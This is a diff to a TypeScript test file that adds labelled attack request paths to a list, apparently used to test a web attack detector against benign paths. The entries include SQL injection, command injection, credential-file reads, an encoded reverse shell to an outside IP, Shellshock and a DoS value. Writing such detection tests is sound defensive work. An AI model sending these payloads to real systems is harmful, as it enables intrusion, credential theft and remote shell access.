@@ -80,6 +80,19 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['sqli-case-when', '/item?id=(case when 1=1 then 1 else 2 end)'],
   ['sqli-server-objects', '/item?id=1;exec xp_dirtree %27\\\\evil\\a%27'],
   ['sqli-hex-string', '/item?id=1 and 1=unhex(0x41414141)'],
+  ['lfi-restricted-file', '/.aws/credentials'],
+  ['lfi-restricted-file', '/app/.n8n/config'],
+  ['lfi-restricted-file', '/static/.DS_Store'],
+  ['rce-redirect-to-tmp', '/ping?host=x;id>/tmp/out'],
+  ['rce-redirect-to-tmp', '/run?code=>/dev/shm/x'],
+  ['rce-shell-path', '/ping?h=d%3D%2Fdev%26%26(sh)0%3E%24d%2Ftcp%2F203.0.113.5%2F4444'], // /dev kept in a variable
+  ['rce-shellshock', '/cgi-bin/status?()%20%7B'],
+  ['sqli-numeric-tautology', '/item?id=9999+or+%2F*%2Bhint*%2F+true'], // the comment goes, `or true` stays
+  ['sqli-union-select', '/item?id=1unionselectfrom'],
+  ['sqli-function', '/item?id=select+if(1,sleep(5),0)'],
+  ['sqli-keyword', '/item?id=1 group by name having count(id)>1'],
+  ['sqli-keyword', "/item?id=execute immediate 'drop table x'"],
+  ['generic-float-parse-dos', '/price?amount=2.2250738585072011e-308'],
 ];
 
 const BENIGN: readonly string[] = [
